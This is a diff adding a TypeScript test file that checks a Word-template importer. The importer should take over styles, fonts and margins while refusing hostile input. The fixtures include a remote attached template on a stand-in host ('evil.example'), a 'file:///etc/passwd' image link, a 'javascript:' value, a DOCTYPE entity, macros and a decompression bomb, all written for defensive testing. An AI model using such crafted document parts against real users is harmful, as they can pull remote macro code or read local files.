@@ -1,0 +1,130 @@
+import { describe, expect, it } from 'vitest';
+import type { WordTemplate } from '../../../shared/domain/memo-export';
+import { openZip } from '../../importing/zip';
+import { writeDocx } from '../docx';
+import { prepareFixture } from '../fixture';
+import { document, heading, paragraph } from '../fixtures/build';
+import { zipBytes, type ZipPart } from '../zip-bytes';
+import { readWordTemplate } from './read';
+
+const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
+const types = (type: string) =>
+  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
+const relationships = (...inner: string[]) =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner.join('')}</Relationships>`;
+const relationship = (type: string, target: string, more = '') =>
+  `<Relationship Id="r${type}" Type="${office}/${type}" Target="${target}"${more}/>`;
+
+const germanStyles = `<w:styles ${w}>
+  <w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="23"/><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault></w:docDefaults>
+  <w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/></w:style>
+  <w:style w:type="paragraph" w:styleId="berschrift1"><w:name w:val="heading 1"/><w:basedOn w:val="Standard"/><w:link w:val="Gone"/>
+    <w:pPr><w:numPr><w:numId w:val="7"/></w:numPr><w:jc w:val="center"/><w:spacing w:before="111"/></w:pPr>
+    <w:rPr><w:vanish/><w:color w:val="AA2200" w:themeColor="accent1"/><w:sz w:val="javascript:1"/></w:rPr></w:style>
+  <w:style w:type="paragraph" w:styleId="Quote"><w:name w:val="House &lt;box&gt;"/><w:basedOn w:val="berschrift1"/></w:style>
+  <w:style w:type="table" w:styleId="T"><w:name w:val="Grid"/></w:style>
+</w:styles>`;
+
+/** A template as Word writes it in another language, with some of its parts otherwise. */
+function template(changed: Record<string, string | Uint8Array | null> = {}): Promise<Uint8Array> {
+  const parts: Record<string, string | Uint8Array | null> = {
+    '[Content_Types].xml': types(mainType),
+    '_rels/.rels': relationships(relationship('officeDocument', 'word/document.xml')),
+    'word/_rels/document.xml.rels': relationships(
+      relationship('styles', 'styles.xml'),
+      relationship('theme', 'theme/theme1.xml'),
+      relationship('attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'),
+      relationship('image', 'file:///etc/passwd', ' TargetMode="External"'),
+    ),
+    'word/document.xml': `<w:document ${w}><w:body><w:p/><w:sectPr><w:pgSz w:w="9000" w:h="12000"/><w:pgMar w:top="700" w:right="800" w:bottom="900" w:left="1000"/></w:sectPr></w:body></w:document>`,
+    'word/theme/theme1.xml':
+      '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:fontScheme><a:minorFont><a:latin typeface="Garamond"/></a:minorFont></a:fontScheme></a:themeElements></a:theme>',
+    'word/styles.xml': germanStyles,
+    ...changed,
+  };
+  const kept = Object.entries(parts).flatMap(([name, content]): ZipPart[] =>
+    content === null ? [] : [{ name, content }],
+  );
+  return zipBytes(kept);
+}
+
+async function exported(wordTemplate: WordTemplate) {
+  const memo = await prepareFixture('chicago-notes', document(heading(1, 'Why'), paragraph('So.')), 'en-GB', false, {
+    wordTemplate,
+  });
+  const zip = await openZip(await writeDocx(memo), 20_000_000);
+  return { zip, styles: await zip.text('word/styles.xml'), text: await zip.text('word/document.xml') };
+}
+const styleOf = (styles: string, id: string) =>
+  new RegExp(`<w:style [^>]*w:styleId="${id}".*?</w:style>`).exec(styles)?.[0] ?? '';
+
+describe('a Word template', () => {
+  it('lends its look, by the names of styles, its fonts, paper and margins', async () => {
+    const { styles, text } = await exported(await readWordTemplate('Haus.docx', await template()));
+    expect(styleOf(styles, 'Heading1')).toContain('<w:spacing w:before="111"/><w:jc w:val="center"/>');
+    expect(styleOf(styles, 'Heading1')).toContain('<w:color w:val="AA2200"/>');
+    expect(styleOf(styles, 'Heading1')).toContain('<w:basedOn w:val="Normal"/>');
+    expect(styles).toContain('<w:rFonts w:ascii="Garamond" w:hAnsi="Garamond"/><w:sz w:val="23"/>');
+    expect(styles).toContain('<w:lang w:val="en-GB" w:bidi="ar-SA"/>');
+    expect(text).toContain('<w:pgSz w:w="9000" w:h="12000"');
+    expect(text).toMatch(/<w:pgMar w:top="700" w:right="800" w:bottom="900" w:left="1000"/);
+  });
+
+  it('leaves the styles that it lacks as they are, and one of its own whose id is ours under another', async () => {
+    const { styles } = await exported(await readWordTemplate('Haus.docx', await template()));
+    expect(styleOf(styles, 'Quote')).toContain('<w:name w:val="Quote"/>');
+    expect(styleOf(styles, 'Quote-template')).toContain('<w:name w:val="House &lt;box&gt;"/>');
+    expect(styleOf(styles, 'Quote-template')).toContain('<w:basedOn w:val="Heading1"/>');
+    const ids = [...styles.matchAll(/w:styleId="([^"]*)"/g)].map(([, id]) => id);
+    expect(new Set(ids).size).toBe(ids.length);
+  });
+
+  it('brings nothing else: no address, no hidden words, no numbering, no strange value', async () => {
+    const { zip, styles } = await exported(await readWordTemplate('Haus.docx', await template()));
+    for (const name of zip.names)
+      expect(await zip.text(name)).not.toMatch(/evil\.example|etc\/passwd|attachedTemplate/);
+    expect(styles).not.toMatch(/vanish|numId|javascript|themeColor|de-DE|Gone/);
+  });
+
+  it('may have styles that rest on each other in a ring', async () => {
+    const ring = (id: string, base: string) =>
+      `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${base}"/></w:style>`;
+    const styles = `<w:styles ${w}>${ring('A', 'B')}${ring('B', 'A')}</w:styles>`;
+    const result = await exported(await readWordTemplate('x.docx', await template({ 'word/styles.xml': styles })));
+    expect(styleOf(result.styles, 'A')).not.toContain('basedOn');
+  });
+
+  const doctype = '<!DOCTYPE x [<!ENTITY a "b">]><w:styles xmlns:w="x">&a;</w:styles>';
+  it.each([
+    ['is not a ZIP archive', () => new TextEncoder().encode('hello'), 'damaged'],
+    ['has no styles', () => template({ 'word/styles.xml': null }), 'it has no styles'],
+    ['has other XML for styles', () => template({ 'word/styles.xml': '<x/>' }), 'it has no styles'],
+    ['has broken XML', () => template({ 'word/styles.xml': '<w:styles' }), 'not well-formed'],
+    ['has a DOCTYPE', () => template({ 'word/styles.xml': doctype }), 'DOCTYPE'],
+    ['has a DOCTYPE in its relationships', () => template({ '_rels/.rels': doctype }), 'damaged'],
+    ['carries macros', () => template({ 'word/vbaProject.bin': 'x' }), 'macros'],
+    [
+      'is of a type with macros',
+      () => template({ '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml') }),
+      'macros',
+    ],
+    [
+      'is a spreadsheet',
+      () => template({ '[Content_Types].xml': types('application/x-sheet') }),
+      'not a Word document',
+    ],
+    ['swells', () => template({ 'word/styles.xml': new Uint8Array(40_000_000) }), 'unpacks to more'],
+  ])('is refused in two sentences where it %s', async (_, make, reason) => {
+    const refusal = readWordTemplate('x.docx', await make());
+    await expect(refusal).rejects.toThrow(reason);
+    await expect(refusal).rejects.toThrow(
+      /^“x\.docx” cannot be a Word template: [^.]*( x\.docx)?.*\. Choose another \.docx/s,
+    );
+  });
+
+  it('that came with a library and is hostile is refused too, and the memo stays', async () => {
+    await expect(exported({ name: 'x.docx', styles: doctype, page: null })).rejects.toThrow('or remove it.');
+  });
+});
